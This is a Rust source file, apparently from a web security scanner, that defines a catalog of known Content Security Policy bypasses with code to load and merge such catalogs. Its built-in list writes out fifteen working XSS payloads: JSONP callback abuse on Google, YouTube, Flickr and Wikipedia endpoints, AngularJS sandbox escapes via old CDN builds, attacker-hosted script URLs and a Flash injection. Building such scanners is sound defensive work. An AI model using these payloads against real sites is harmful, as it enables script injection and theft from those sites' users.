// Copyright (c) 2026 Bountyy Oy. All rights reserved.
// This software is proprietary and confidential.

//! Known CSP bypass catalog
//!
//! Third-party domains that serve content an attacker can use to run
//! script once the domain is whitelisted: JSONP endpoints reflecting a
//! callback, CDNs hosting old AngularJS builds, and hosts serving
//! user-uploaded files.

use std::collections::BTreeMap;
use std::fs;
use std::path::Path;

use lazy_static::lazy_static;
use serde::{Deserialize, Serialize};

use crate::error::{Error, Result};
use crate::security::Directive;

/// Built-in entries: (directive, domain, payload)
const BUILTIN_BYPASSES: &[(Directive, &str, &str)] = &[
    (
        Directive::ScriptSrc,
        "ajax.googleapis.com",
        r#""><script src="https://ajax.googleapis.com/ajax/services/feed/find?v=1.0&callback=alert&context=1337"></script>"#,
    ),
    (
        Directive::ScriptSrc,
        "ajax.googleapis.com",
        r#""><script src="https://ajax.googleapis.com/ajax/libs/angularjs/1.1.3/angular.min.js"></script><div ng-app ng-csp id=p ng-click=$event.view.alert(1337)>"#,
    ),
    (
        Directive::ScriptSrc,
        "www.googleapis.com",
        r#""><script src="https://www.googleapis.com/customsearch/v1?callback=alert(1337)"></script>"#,
    ),
    (
        Directive::ScriptSrc,
        "storage.googleapis.com",
        r#""><script src="https://storage.googleapis.com/<attacker-bucket>/payload.js"></script>"#,
    ),
    (
        Directive::ScriptSrc,
        "accounts.google.com",
        r#""><script src="https://accounts.google.com/o/oauth2/revoke?callback=alert(1337)"></script>"#,
    ),
    (
        Directive::ScriptSrc,
        "www.google.com",
        r#""><script src="https://www.google.com/complete/search?client=chrome&q=hello&callback=alert#1"></script>"#,
    ),
    (
        Directive::ScriptSrc,
        "cse.google.com",
        r#""><script src="https://cse.google.com/api/007627024705277327428/cse/r3vs7b0fcli/queries/js?callback=alert(1337)"></script>"#,
    ),
    (
        Directive::ScriptSrc,
        "www.youtube.com",
        r#""><script src="https://www.youtube.com/oembed?callback=alert(1337)"></script>"#,
    ),
    (
        Directive::ScriptSrc,
        "cdnjs.cloudflare.com",
        r#""><script src="https://cdnjs.cloudflare.com/ajax/libs/prototype/1.7.2/prototype.js"></script><script src="https://cdnjs.cloudflare.com/ajax/libs/angular.js/1.0.1/angular.js"></script><div ng-app ng-csp>{{$on.curry.call().alert(1337)}}</div>"#,
    ),
    (
        Directive::ScriptSrc,
        "cdn.jsdelivr.net",
        r#""><script src="https://cdn.jsdelivr.net/npm/angular@1.6.0/angular.min.js"></script><div ng-app ng-csp>{{$eval.constructor('alert(1337)')()}}</div>"#,
    ),
    (
        Directive::ScriptSrc,
        "unpkg.com",
        r#""><script src="https://unpkg.com/angular@1.6.0/angular.min.js"></script><div ng-app ng-csp>{{$eval.constructor('alert(1337)')()}}</div>"#,
    ),
    (
        Directive::ScriptSrc,
        "raw.githubusercontent.com",
        r#""><script src="https://raw.githubusercontent.com/<user>/<repo>/master/payload.js"></script>"#,
    ),
    (
        Directive::ScriptSrc,
        "api.flickr.com",
        r#""><script src="https://api.flickr.com/services/feeds/photos_public.gne?format=json&jsoncallback=alert(1337)"></script>"#,
    ),
    (
        Directive::ScriptSrc,
        "en.wikipedia.org",
        r#""><script src="https://en.wikipedia.org/w/api.php?action=opensearch&format=json&search=x&callback=alert"></script>"#,
    ),
    (
        Directive::ObjectSrc,
        "ajax.googleapis.com",
        r#""><embed src="https://ajax.googleapis.com/ajax/libs/yui/2.8.0r4/build/charts/assets/charts.swf?allowedDomain=\"})))}catch(e){alert(1337)}//">"#,
    ),
];

lazy_static! {
    static ref BUILTIN: BypassCatalog = BypassCatalog::from_entries(BUILTIN_BYPASSES);
}

/// A domain known to host a CSP bypass, with its payload
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct KnownBypass {
    pub domain: String,
    pub payload: String,
    #[serde(skip)]
    labels: Vec<String>,
}

impl KnownBypass {
    /// Create an entry
    pub fn new(domain: impl Into<String>, payload: impl Into<String>) -> Self {
        let domain = domain.into();
        let labels = domain.split('.').map(|l| l.to_ascii_lowercase()).collect();
        Self {
            domain,
            payload: payload.into(),
            labels,
        }
    }

    /// Domain split into labels
    pub fn labels(&self) -> &[String] {
        &self.labels
    }
}

/// Known bypasses organized by directive
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct BypassCatalog {
    entries: Vec<(Directive, Vec<KnownBypass>)>,
}

impl BypassCatalog {
    /// Create an empty catalog
    pub fn new() -> Self {
        Self::default()
    }

    /// The built-in catalog, initialized once per process
    pub fn builtin() -> &'static BypassCatalog {
        &BUILTIN
    }

    fn from_entries(entries: &[(Directive, &str, &str)]) -> Self {
        entries
            .iter()
            .fold(Self::new(), |catalog, (directive, domain, payload)| {
                catalog.with_entry(*directive, *domain, *payload)
            })
    }

    /// Load a catalog from JSON
    ///
    /// Format: `{"script-src": [{"domain": "...", "payload": "..."}]}`
    pub fn from_json(json: &str) -> Result<Self> {
        let raw: BTreeMap<String, Vec<KnownBypass>> = serde_json::from_str(json)?;
        let mut catalog = Self::new();

        for (name, bypasses) in raw {
            let directive = Directive::from_name(&name)
                .ok_or_else(|| Error::catalog(format!("unknown directive '{}'", name)))?;

            for bypass in bypasses {
                validate_domain(&bypass.domain)?;
                catalog.add(directive, KnownBypass::new(bypass.domain, bypass.payload));
            }
        }

        Ok(catalog)
    }

    /// Load a JSON catalog from a file
    pub fn from_file(path: impl AsRef<Path>) -> Result<Self> {
        let json = fs::read_to_string(path)?;
        Self::from_json(&json)
    }

    /// Add an entry, builder style
    pub fn with_entry(
        mut self,
        directive: Directive,
        domain: impl Into<String>,
        payload: impl Into<String>,
    ) -> Self {
        self.add(directive, KnownBypass::new(domain, payload));
        self
    }

    /// Add an entry
    pub fn add(&mut self, directive: Directive, bypass: KnownBypass) {
        match self.entries.iter_mut().find(|(d, _)| *d == directive) {
            Some((_, bypasses)) => bypasses.push(bypass),
            None => self.entries.push((directive, vec![bypass])),
        }
    }

    /// Append every entry of another catalog
    pub fn merge(&mut self, other: &BypassCatalog) {
        for (directive, bypasses) in other.iter() {
            for bypass in bypasses {
                self.add(directive, bypass.clone());
            }
        }
    }

    /// Entries for one directive
    pub fn get(&self, directive: Directive) -> &[KnownBypass] {
        self.entries
            .iter()
            .find(|(d, _)| *d == directive)
            .map(|(_, b)| b.as_slice())
            .unwrap_or(&[])
    }

    /// Directives with at least one entry, in catalog order
    pub fn iter(&self) -> impl Iterator<Item = (Directive, &[KnownBypass])> {
        self.entries.iter().map(|(d, b)| (*d, b.as_slice()))
    }

    /// Total number of entries
    pub fn len(&self) -> usize {
        self.entries.iter().map(|(_, b)| b.len()).sum()
    }

    /// True when the catalog has no entries
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }
}

fn validate_domain(domain: &str) -> Result<()> {
    let valid = !domain.is_empty()
        && !domain.contains("://")
        && !domain.contains(char::is_whitespace)
        && domain.split('.').all(|label| !label.is_empty());

    if valid {
        Ok(())
    } else {
        Err(Error::catalog(format!("invalid bypass domain '{}'", domain)))
    }
}
